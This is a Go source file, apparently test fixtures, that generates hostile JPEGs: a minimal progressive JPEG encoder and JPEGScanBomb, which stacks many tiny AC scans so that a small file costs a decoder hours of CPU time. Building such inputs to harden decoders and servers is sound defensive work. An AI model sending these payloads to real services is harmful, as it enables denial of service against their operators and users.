package hostile

import (
	"bytes"
	"encoding/binary"
	"image"
	"image/color"
	"math/bits"
)

// ProgressiveJPEG encodes img as a progressive JPEG (SOF2) holding a single
// scan: the DC coefficients of Y, Cb and Cr, 4:4:4, so each 8x8 block shows
// its mean colour. The standard library cannot write progressive JPEGs,
// and this is the smallest stream that takes a decoder's progressive path;
// cut short, it is the truncated progressive JPEG a server must refuse.
func ProgressiveJPEG(img image.Image) []byte {
	b := img.Bounds()
	w, h := b.Dx(), b.Dy()
	var out bytes.Buffer
	out.Write([]byte{0xff, 0xd8}) // SOI

	// DQT: tables 0 and 1, all steps 8, so a DC value is the block mean - 128.
	dqt := []byte{0xff, 0xdb, 0, 2 + 2*65}
	for id := byte(0); id < 2; id++ {
		dqt = append(dqt, id)
		dqt = append(dqt, bytes.Repeat([]byte{8}, 64)...)
	}
	out.Write(dqt)

	// SOF2: 8-bit, h x w, three components sampled 1x1.
	sof := []byte{0xff, 0xc2, 0, 17, 8, 0, 0, 0, 0, 3, 1, 0x11, 0, 2, 0x11, 1, 3, 0x11, 1}
	binary.BigEndian.PutUint16(sof[5:], uint16(h))
	binary.BigEndian.PutUint16(sof[7:], uint16(w))
	out.Write(sof)

	// DHT: the standard luminance DC table as table 0 of class 0.
	dht := []byte{0xff, 0xc4, 0, 0, 0x00}
	dht = append(dht, dcBits[:]...)
	dht = append(dht, dcVals[:]...)
	binary.BigEndian.PutUint16(dht[2:], uint16(len(dht)-2))
	out.Write(dht)

	// SOS: all three components, DC table 0, spectral range 0..0, Ah=Al=0.
	out.Write([]byte{0xff, 0xda, 0, 12, 3, 1, 0x00, 2, 0x00, 3, 0x00, 0, 0, 0})

	codes := dcCodes()
	var bw bitWriter
	var pred [3]int
	for by := 0; by < h; by += 8 {
		for bx := 0; bx < w; bx += 8 {
			means := blockMeans(img, b.Min.X+bx, b.Min.Y+by)
			for c := range 3 {
				dc := means[c] - 128
				diff := dc - pred[c]
				pred[c] = dc
				n := bits.Len(uint(abs(diff)))
				bw.put(codes[n].code, codes[n].len)
				if diff < 0 {
					diff += 1<<n - 1
				}
				bw.put(uint32(diff), n)
			}
		}
	}
	out.Write(bw.flush())
	out.Write([]byte{0xff, 0xd9}) // EOI
	return out.Bytes()
}

var (
	dcBits = [16]byte{0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0}
	dcVals = [12]byte{0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11}
)

type huffCode struct {
	code uint32
	len  int
}

// dcCodes derives the canonical codes of dcBits/dcVals (JPEG Annex C).
func dcCodes() [12]huffCode {
	var codes [12]huffCode
	code, k := uint32(0), 0
	for l := 1; l <= 16; l++ {
		for range dcBits[l-1] {
			codes[dcVals[k]] = huffCode{code, l}
			code++
			k++
		}
		code <<= 1
	}
	return codes
}

// blockMeans returns the rounded mean Y, Cb, Cr of the 8x8 block at (x0,
// y0), repeating edge pixels past the image's bounds.
func blockMeans(img image.Image, x0, y0 int) [3]int {
	b := img.Bounds()
	var sum [3]int
	for y := y0; y < y0+8; y++ {
		for x := x0; x < x0+8; x++ {
			p := image.Pt(min(x, b.Max.X-1), min(y, b.Max.Y-1))
			c := color.YCbCrModel.Convert(img.At(p.X, p.Y)).(color.YCbCr)
			sum[0] += int(c.Y)
			sum[1] += int(c.Cb)
			sum[2] += int(c.Cr)
		}
	}
	return [3]int{(sum[0] + 32) / 64, (sum[1] + 32) / 64, (sum[2] + 32) / 64}
}

func abs(v int) int {
	if v < 0 {
		return -v
	}
	return v
}

// bitWriter packs bits most significant first and stuffs a zero byte after
// every 0xff, as entropy-coded JPEG data requires.
type bitWriter struct {
	buf   []byte
	acc   uint32
	nbits int
}

func (w *bitWriter) put(v uint32, n int) {
	for i := n - 1; i >= 0; i-- {
		w.acc = w.acc<<1 | (v>>uint(i))&1
		w.nbits++
		if w.nbits == 8 {
			w.emit(byte(w.acc))
			w.acc, w.nbits = 0, 0
		}
	}
}

func (w *bitWriter) emit(c byte) {
	w.buf = append(w.buf, c)
	if c == 0xff {
		w.buf = append(w.buf, 0)
	}
}

// flush pads the last byte with one bits.
func (w *bitWriter) flush() []byte {
	if w.nbits > 0 {
		w.put(1<<uint(8-w.nbits)-1, 8-w.nbits)
	}
	return w.buf
}

// JPEGScanBomb returns a progressive JPEG of w x h (gray, one DC scan)
// followed by extra AC scans of the whole image, each a few bytes of EOB
// runs. A decoder walks every block once per scan, so each scan costs
// time in proportion to the image while adding about 16 bytes: a payload
// of megabytes can hold enough scans to keep a core busy for hours.
func JPEGScanBomb(w, h, extraScans int) []byte {
	base := ProgressiveJPEG(image.NewGray(image.Rect(0, 0, w, h)))
	var out bytes.Buffer
	out.Write(base[:len(base)-2]) // all but EOI

	// DHT: AC table 0 holding the 15 EOB-run symbols (r<<4, run 2^r + r
	// extra bits), all with 4-bit codes.
	dht := []byte{0xff, 0xc4, 0, 2 + 1 + 16 + 15, 0x10}
	var counts [16]byte
	counts[3] = 15
	dht = append(dht, counts[:]...)
	for r := range 15 {
		dht = append(dht, byte(r<<4))
	}
	out.Write(dht)

	blocks := ((w + 7) / 8) * ((h + 7) / 8)
	for range extraScans {
		// SOS: component 1 alone, AC table 0, spectral range 1..63.
		out.Write([]byte{0xff, 0xda, 0, 8, 1, 1, 0x00, 1, 63, 0})
		var bw bitWriter
		for left := blocks; left > 0; {
			run := min(left, 1<<15-1)
			r := bits.Len(uint(run)) - 1
			bw.put(uint32(r), 4) // the code of symbol r<<4 is r
			bw.put(uint32(run-1<<r), r)
			left -= run
		}
		out.Write(bw.flush())
	}
	out.Write([]byte{0xff, 0xd9}) // EOI
	return out.Bytes()
}
